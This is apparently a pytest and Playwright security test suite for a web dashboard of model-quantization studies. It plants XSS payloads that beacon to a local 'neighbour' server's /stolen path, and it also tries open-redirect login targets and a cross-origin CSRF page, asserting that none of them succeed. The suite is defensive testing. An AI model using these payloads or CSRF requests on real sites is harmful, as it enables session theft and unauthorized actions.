"""Text that means harm, wherever a user, a worker or a model's file can put it: it is shown as text, in a real browser.

An admin walks all pages. Whatever ran would set `__pwned` or ask the neighbour, a server of another origin that notes
what it is asked for.
"""

from __future__ import annotations

import dataclasses
import http.server
import json
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType
from typing import Any
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from playwright.sync_api import Browser, BrowserContext, Page, expect

from autoq.assignment import Assignment
from autoq.measurement import Measurement
from autoq.store import Store
from autoq.store import models as m
from autoq.store.queue_records import WorkerRecord

pytestmark = pytest.mark.timeout(900)

TABS = ("layers", "tradeoffs", "trials", "health", "whatif", "spec")
MADE = """() => document.querySelectorAll(
  '#hostile, [onerror], [onload], [onclick], [onmouseover], img[src="x"], iframe, object, embed,'
  + ' a[href^="javascript:" i], a[href*="/stolen"], image[href*="/stolen"]').length"""


class Neighbour:
    """A server of another origin on this machine: pages that attack, and a note of what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.pages: dict[str, str] = {}
        neighbour = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = self.path.partition("?")[0]
                if path not in neighbour.pages and path != "/favicon.ico":
                    neighbour.asked.append(self.path)
                body = neighbour.pages.get(path, "").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def texts(self) -> list[str]:
        """What may run, each kind once."""
        run = f"window.__pwned=1;new Image().src='{self.url}/stolen'"
        return [
            f'<img src=x id=hostile onerror="{run}">',
            f"</script><script id=hostile>{run}</script>",
            f'"><svg id=hostile onload="{run}"></svg>',
            f'<a href="javascript:{run}">a</a><a href="{self.url}/stolen">b</a>',
            f"' onmouseover='{run}' x='",
            f"javascript:{run}",
            "${window.__pwned=1}{{7*7}}{% raw %}`",
            f"<!--<iframe srcdoc='<script>parent.__pwned=1</script>' src={self.url}/stolen>",
            "\u202e\u2066evil\u2069 reversed\u202c \x07\ufeff\ud7ff",
        ]


@dataclasses.dataclass
class Place:
    """A server with hostile studies, an admin's browser on it, and the neighbour."""

    url: str
    db: Path
    context: BrowserContext
    neighbour: Neighbour
    failed: int
    complete: int
    problems: list[str]

    def page(self, path: str) -> Page:
        found = self.context.new_page()
        found.goto(self.url + path)
        return found

    def unharmed(self, page: Page) -> None:
        assert page.evaluate("window.__pwned") is None, page.url
        assert page.evaluate(MADE) == 0, page.url
        assert not page.evaluate(r"/[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText)"), page.url
        assert self.neighbour.asked == [], page.url


def _write(store: Store, believable: ModuleType, texts: list[str], patch: pytest.MonkeyPatch) -> tuple[int, int]:
    """Studies with those texts in all that is free text: of a spec, of a model's file, of workers and of people."""
    layers = believable.layers()
    named = list(layers)
    own = dict(layers)
    for i, text in enumerate(texts):
        name = f"model.layers.{i}.self_attn.{text.replace('.', '')}"
        own[name] = dataclasses.replace(own.pop(named[7 * i]), name=name, tied=(text,))
    patch.setattr(believable, "layers", lambda: own)
    patch.setattr(believable, "DEVICE", texts[0] + "A" * 100_000)
    patch.setattr(believable, "OBJECTIVES", [*believable.OBJECTIVES, (f"lm_eval:{texts[0]}", texts[3], "maximize")])
    writer = believable.Writer.new(store, "hostile", 40, model={"id": texts[0]}, data={"source": texts[1]})
    measured = writer.measured

    def more(assignment: Assignment, part: Any = "search") -> list[Measurement]:
        detail = {texts[0]: texts[1], "kernels": {texts[2]: texts[3]}}
        name, unit = f"lm_eval:{texts[0]}", texts[3]
        extra = Measurement(name, writer.random.random(), unit, "measured", part, 0.01, 10, texts[4], detail)
        return [*measured(assignment, part), extra]

    patch.setattr(writer, "measured", more)
    writer.baselines()
    writer.propose(12)
    complete = writer.number - 1
    writer.stop()
    for text in [*texts, "A" * 100_000]:
        trial = store.start_trial(writer.study.id, writer.number, writer.proposal(0.3), "sampler", None, {text: 1.0})
        store.fail_trial(trial.id, 1, text[:200], text, text, 0.7, text[:200])
        writer.number += 1
    failed = writer.number - len(texts) - 1
    writer.report()
    for number, text in enumerate(texts):
        store.remarks.put(writer.study.id, number, text, [text[:60]], texts[0])
    store.put_table(writer.study.id, "log", {"text": "\n".join(texts)})
    node, device = texts[1], texts[2] + "A" * 100_000
    store.queue.beat([WorkerRecord(text[:128], node, device, "busy", writer.study.id) for text in texts])
    other = believable.Writer.new(store, "broken", 40)
    store.set_state(other.study.id, "failed", "A" * 100_000 + " ".join(texts))
    with store._database.writing() as connection:
        connection.execute(sa.update(m.studies).values(owner=texts[0][:64]))
    return failed, complete


@pytest.fixture(scope="module")
def neighbour() -> Iterator[Neighbour]:
    found = Neighbour()
    yield found
    found.server.shutdown()
    found.server.server_close()


@pytest.fixture(scope="module")
def place(
    chromium: Browser,
    serving: Callable[[Path, Path], Iterator[str]],
    believable: ModuleType,
    neighbour: Neighbour,
    traffic: Callable[[BrowserContext], Any],
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Place]:
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "autoq.db"
    texts = neighbour.texts()
    with Store.open(str(db)) as store, pytest.MonkeyPatch.context() as patch:
        failed, complete = _write(store, believable, texts, patch)
        store.accounts.create(texts[0][:90], "mallory", "submitter")
        secret, _ = store.accounts.create("laptop", "ada", "admin")
    served = serving(db, folder / "server.log")
    url = next(served)
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(120_000)
    traffic(context)
    problems: list[str] = []
    context.on("weberror", lambda error: problems.append(str(error.error)))
    context.add_init_script(
        "addEventListener('securitypolicyviolation', e => (window.violated ??= []).push(e.violatedDirective))"
    )
    signed = context.request.post(f"{url}/api/v1/session", data={"token": secret})
    assert signed.ok
    yield Place(url, db, context, neighbour, failed, complete, problems)
    context.close()
    served.close()  # type: ignore[attr-defined]


def test_text_of_others_runs_nowhere(place: Place, settled: Callable[[Page], None]) -> None:
    page = place.page("/")
    expect(page.locator("article")).to_have_count(2)
    expect(page.locator("article", has_text="broken").locator(".said")).to_contain_text("onerror")
    place.unharmed(page)

    for tab in TABS:
        page.goto(f"{place.url}/studies/hostile?tab={tab}")
        settled(page)
        closed = page.locator("details:not([open]) > summary:visible")
        for _ in range(closed.count()):
            closed.first.click()
        place.unharmed(page)
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, tab
    page.goto(f"{place.url}/studies/hostile")
    expect(page.locator("#frontier .plot.js-plotly-plot")).to_be_visible()
    settled(page)
    page.evaluate(
        "(() => { const plot = document.querySelector('#frontier .plot');"
        " plot._fullData.forEach((trace, curveNumber) => trace.visible === true && trace.x?.length &&"
        " window.Plotly.Fx.hover(plot, [{curveNumber, pointNumber: 0}])); })()"
    )
    place.unharmed(page)

    for number in (place.complete, *range(place.failed, place.failed + 10)):
        page.goto(f"{place.url}/studies/hostile/trials/{number}")
        settled(page)
        place.unharmed(page)
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, number
    page.goto(f"{place.url}/studies/hostile/trials/0")
    expect(page.get_by_role("textbox", name="Note")).to_have_value(place.neighbour.texts()[0])
    for path in (
        f"/studies/hostile/diff?a={place.complete}&b=uniform-int4",
        "/compare?studies=hostile,broken",
        "/studies/broken",
    ):
        page.goto(place.url + path)
        settled(page)
        place.unharmed(page)
    assert place.problems == []
    page.close()


def test_a_report_of_others_text_runs_nowhere(place: Place, tmp_path: Path) -> None:
    made = place.context.request.get(f"{place.url}/api/v1/studies/hostile/report")
    assert made.ok
    assert "attachment" in made.headers["content-disposition"]
    (tmp_path / "report.html").write_bytes(made.body())
    page = place.context.new_page()  # as a file it has no server's policy, only its own
    page.goto(f"file://{tmp_path}/report.html")
    expect(page.locator("html[data-drawn=yes]")).to_have_count(1)
    place.unharmed(page)
    page.close()


def test_an_address_runs_nothing(place: Place, settled: Callable[[Page], None]) -> None:
    page = place.context.new_page()
    for text in ("".join(place.neighbour.texts()), *place.neighbour.texts()[5:7]):
        given = quote(text.encode("utf-8", "replace"))
        names = "&".join(f"{name}={given}" for name in ("tab", "pick", "best", "x", "zoom", "sort", "by"))
        for path in (
            f"/?q={given}&state={given}&sort={given}#{given}",
            f"/studies/hostile?{names}&max.size_bytes={given}&min.{given}={given}#{given}",
            f"/compare?studies={given},hostile&x={given}#{given}",
            f"/studies/hostile/diff?a={given}&b={given}#{given}",
            f"/login?next={given}#{given}",
            f"/studies/{given}",
        ):
            page.goto(place.url + path)
            expect(page.locator("main")).to_be_visible()
            settled(page)
            place.unharmed(page)
    page.goto(f"{place.url}/new")
    for text in place.neighbour.texts():
        page.get_by_label("Spec as YAML").fill(f"name: {json.dumps(text)}\n{json.dumps(text)}: 1\n")
        expect(page.locator(".verdict .problem, .field .problem:visible").first).to_be_visible()
        place.unharmed(page)
    assert place.problems == []
    page.close()


def test_signing_in_leads_to_a_page_of_this_server(place: Place, chromium: Browser) -> None:
    with Store.open(str(place.db)) as store:
        secret, _ = store.accounts.create("other", "ada", "admin")
    context = chromium.new_context()
    context.set_default_timeout(120_000)
    for wanted in (
        "javascript:window.__pwned=1",
        f"{place.neighbour.url}/stolen",
        "//127.0.0.1:1/",
        "/\\127.0.0.1:1",
        "http://[",
    ):
        page = context.new_page()
        page.goto(f"{place.url}/login?next={quote(wanted)}")
        page.get_by_label("Token").fill(secret)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("heading", name="Studies", exact=True)).to_be_visible()
        assert page.url.startswith(f"{place.url}/")
        place.unharmed(page)
        page.close()
    [cookie] = context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    context.close()


def test_what_is_injected_does_not_run(place: Place) -> None:
    page = place.page("/")
    expect(page.locator("article")).to_have_count(2)
    assert page.evaluate("document.cookie") == ""
    page.evaluate(
        """(url) => {
          const bad = `window.__pwned = 1; fetch('${url}/stolen')`;
          const at = document.querySelector('main');
          at.innerHTML += `<img src=x onerror="${bad}"><svg onload="${bad}"></svg>`
            + `<a id=js href="javascript:${bad}">x</a><iframe srcdoc="<script>parent.__pwned=1</scr` + `ipt>"></iframe>`
            + `<img src="${url}/stolen">`
            + `<form id=f action="${url}/stolen" method=post></form><base href="${url}/">`
            + `<link rel=stylesheet href="${url}/stolen"><style>body{background:url(${url}/stolen)}</style>`;
          const script = document.createElement('script');
          script.textContent = bad;
          at.append(script);
          const far = document.createElement('script');
          far.src = `${url}/stolen`;
          at.append(far);
          document.getElementById('js').click();
          document.getElementById('f').submit();
          // Not here: what a debugger evaluates may evaluate.
          for (const run of [() => eval(bad), () => new Function(bad)(), () => setTimeout(bad)]) setTimeout(() => {
            try { run(); } catch (problem) { (window.violated ??= []).push(problem.name); }
          });
          fetch(`${url}/stolen`).catch(() => {});
          navigator.sendBeacon(`${url}/stolen`);
        }""",
        place.neighbour.url,
    )
    end = time.monotonic() + 120
    wanted = {
        "script-src-attr",
        "script-src-elem",
        "img-src",
        "connect-src",
        "form-action",
        "style-src-elem",
        "EvalError",
    }
    while not wanted <= set(page.evaluate("window.violated ?? []")):
        assert time.monotonic() < end, page.evaluate("window.violated")
        page.wait_for_timeout(50)
    assert page.evaluate("window.__pwned") is None
    assert page.url == f"{place.url}/"
    assert place.neighbour.asked == []
    page.close()


def test_another_origins_page_changes_nothing_and_frames_nothing(place: Place) -> None:
    """The neighbour is the same site (ports do not count), so the browser does send the cookie along."""
    api = f"{place.url}/api/v1"
    place.neighbour.pages["/attack"] = f"""<body><iframe name=frame src="{place.url}/studies/hostile"></iframe>
      <form id=f action="{api}/studies/hostile/cancel" method=post target=sink enctype="text/plain"></form>
      <iframe name=sink></iframe></body>"""
    page = place.context.new_page()
    page.goto(f"{place.neighbour.url}/attack")
    told = page.evaluate(
        """async (api) => {
          document.getElementById('f').submit();
          const found = [];
          for (const [method, path, type] of [
            ['POST', '/studies/hostile/cancel', 'text/plain'], ['POST', '/studies', 'application/json'],
            ['PUT', '/studies/hostile/trials/0/remark', 'application/json'], ['DELETE', '/tokens/1', 'text/plain'],
            ['POST', '/tokens', 'application/json'], ['DELETE', '/session', 'text/plain'],
            ['GET', '/studies', 'text/plain'],
          ]) for (const mode of ['cors', 'no-cors']) {
            try {
              const body = method === 'GET' ? undefined : '{"note": "stolen", "tags": []}';
              const headers = {'Content-Type': type};
              const answer = await fetch(api + path, {method, mode, credentials: 'include', headers, body});
              found.push([method, path, mode, answer.type, (await answer.text()).length]);
            } catch (problem) { found.push([method, path, mode, 'refused', 0]); }
          }
          return found;
        }""",
        api,
    )
    assert {(kind, length) for *_, kind, length in told} <= {("refused", 0), ("opaque", 0)}, told
    frame = page.frame(name="frame")
    assert frame is not None
    assert not frame.url.startswith(place.url), frame.url  # an error page of the browser's own
    with Store.open(str(place.db)) as store:
        assert store.study("hostile").state == "running"
        assert store.study("hostile").request is None
        assert len(store.accounts.list()) >= 2
        assert all(token.revoked_at is None for token in store.accounts.list())
        assert {remark.note for remark in store.remarks.of(store.study("hostile").id)}.isdisjoint({"stolen"})
    page.close()
    signed = place.page("/")
    expect(signed.locator("#user")).to_contain_text("ada")
    signed.close()
